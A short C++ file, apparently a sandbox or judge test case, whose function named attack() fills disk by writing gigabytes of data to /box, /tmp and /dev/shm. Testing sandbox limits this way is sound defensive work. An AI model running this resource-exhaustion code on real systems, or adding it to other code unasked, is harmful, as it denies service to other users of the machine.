// Fills the disk
#include <initializer_list>
#include <stdio.h>
inline void attack() {
  static char block[1 << 20];
  for (const char* path : {"/box/fill", "/tmp/fill", "/dev/shm/fill"})
    if (FILE* file = fopen(path, "w"))
      for (int i = 0; i < 4096; ++i)
        if (fwrite(block, sizeof block, 1, file) != 1) break;
}
